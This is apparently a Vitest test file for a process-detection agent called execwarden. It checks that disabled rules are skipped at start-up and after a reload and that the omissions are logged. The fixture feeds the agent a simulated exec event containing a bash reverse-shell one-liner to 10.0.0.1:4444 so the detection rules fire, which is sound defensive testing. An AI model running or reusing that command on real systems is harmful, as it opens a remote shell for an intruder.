/**
 * The agent runs only the rules its selection keeps, from start-up and after every reload, and
 * says in its log what was left out and which names matched nothing. No kernel: a scripted
 * source, a fixture /proc and an in-memory output.
 */
import { cpSync, mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Agent } from '../../src/agent/agent.js';
import { resolveConfig } from '../../src/agent/config.js';
import { createLogger } from '../../src/agent/logger.js';
import { renderMetrics } from '../../src/agent/metrics.js';
import type { EventSource } from '../../src/capture/event-source.js';
import type { CaptureStats, RawEvent } from '../../src/capture/raw-event.js';
import type { HostInfo } from '../../src/ecs/index.js';
import type { Sink, SinkStats } from '../../src/outputs/sink.js';
import { FixtureProcFs } from '../../src/process/index.js';
import { TextSink } from '../support/helpers.js';
import { makeProcTree, removeTree, writeProcess } from '../process/proc-tree.js';
import { execEvent, forkEvent } from '../process/raw-events.js';

const ROOT = resolve(import.meta.dirname, '../..');
const SEED_RULE = '259be2d8-3b1a-4c2c-a0eb-0c8e77f35e39';
const HOST = { name: 'lab-host', hostname: 'lab-host', id: 'f00d' } as HostInfo;

class ScriptedSource implements EventSource {
  deliver: (events: RawEvent[]) => void = () => undefined;
  async start(onBatch: (events: RawEvent[]) => void): Promise<void> {
    this.deliver = onBatch;
  }
  async stop(): Promise<void> {}
  stats(): CaptureStats {
    return {
      eventsByKind: { fork: 0, exec: 0, exit: 0, comm: 0, sid: 0, uid: 0, gid: 0, ptrace: 0, coredump: 0 },
      overflows: 0, sequenceGaps: 0, messagesRejected: 0, batchesDropped: 0, eventsDropped: 0,
      snapshotsPartial: 0, snapshotsGone: 0, snapshotsStale: 0, commsRenamed: 0, receiveBufferBytes: 4096, realtime: false,
    };
  }
}

class MemorySink implements Sink {
  readonly name = 'memory';
  readonly docs: Record<string, unknown>[] = [];
  async start(): Promise<void> {}
  write(doc: Record<string, unknown>): void {
    this.docs.push(doc);
  }
  async close(): Promise<void> {}
  stats(): SinkStats {
    return { name: this.name, queued: 0, written: this.docs.length, dropped: 0, failures: 0 };
  }
  ruleIds(): string[] {
    return this.docs.map((d) => (d.rule as { id: string }).id);
  }
}

function launch(pid: number): RawEvent[] {
  const argv = ['setsid', 'bash', '-c', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'];
  return [
    forkEvent(100, pid),
    execEvent(pid, {
      cmdline: Buffer.from(`${argv.join('\0')}\0`), cmdlineTruncated: false, comm: 'setsid', exe: '/usr/bin/setsid', cwd: '/',
      ppid: 100, pgid: 100, sid: 100, ttyNr: 0, startTicks: 9000 + pid, ruid: 0, euid: 0, rgid: 0, egid: 0, cgroup: '/', failed: [],
    }),
  ];
}

describe('the agent with a rule selection', () => {
  let proc: string;
  let dir: string;

  beforeAll(() => {
    proc = makeProcTree();
    writeProcess(proc, { pid: 100, ppid: 1, comm: 'bash', argv: ['bash'], exe: '/usr/bin/bash', startTicks: 50 });
    dir = mkdtempSync(join(tmpdir(), 'execwarden-agent-selection-'));
    cpSync(join(ROOT, 'rules'), join(dir, 'rules'), { recursive: true });
  });
  afterAll(() => {
    removeTree(proc);
    rmSync(dir, { recursive: true, force: true });
  });

  async function start(rules: Record<string, unknown>, sink: MemorySink, log = new TextSink()): Promise<{ agent: Agent; source: ScriptedSource }> {
    const base = resolveConfig({ rules: { paths: [join(dir, 'rules')], ...rules } }, null);
    const source = new ScriptedSource();
    const logger = createLogger({ level: 'info', destination: log });
    const agent = await Agent.start({ ...base, outputs: { queue: base.outputs.queue } }, { logger, source, procfs: new FixtureProcFs(proc), host: HOST, extraSinks: [sink] });
    return { agent, source };
  }

  it('never evaluates a disabled rule, at start-up or after a reload, and logs what it left out', async () => {
    const everything = new MemorySink();
    const plain = await start({}, everything);
    plain.source.deliver(launch(200));
    await plain.agent.stop();
    const firing = new Set(everything.ruleIds());
    expect(firing).toContain(SEED_RULE);

    const sink = new MemorySink();
    const log = new TextSink();
    const { agent, source } = await start({ disable: [SEED_RULE], disable_tags: ['Tactic: Nowhere'] }, sink, log);
    try {
      source.deliver(launch(201));
      expect(sink.ruleIds()).not.toContain(SEED_RULE);
      expect(new Set(sink.ruleIds())).toEqual(new Set([...firing].filter((id) => id !== SEED_RULE)));
      expect(renderMetrics(agent.metrics())).toMatch(/^execwarden_rules_loaded 12$/m);
      expect((agent.summary().rules as { matchesByRule: Record<string, number> }).matchesByRule).not.toHaveProperty(SEED_RULE);

      expect(await agent.reload()).toBe(true);
      source.deliver(launch(202));
      expect(sink.ruleIds()).not.toContain(SEED_RULE);
      expect(renderMetrics(agent.metrics())).toMatch(/^execwarden_rules_loaded 12$/m);
    } finally {
      await agent.stop();
    }
    const messages = log.lines().map((line) => (JSON.parse(line) as { msg: string }).msg);
    const unmatched = 'config: warning RULE0403 rules.disable_tags: no loaded rule carries the tag "Tactic: Nowhere"';
    const leftOut = `${join(dir, 'rules')}: note RULE0404 12 of 13 loaded rules run; 1 left out by the rule selection (1 by rules.disable)`;
    // Once at start-up and once on the reload.
    expect(messages.filter((m) => m === unmatched)).toHaveLength(2);
    expect(messages.filter((m) => m === leftOut)).toHaveLength(2);
    expect(messages).toContain('rules reloaded: 12 rules');
  });
});
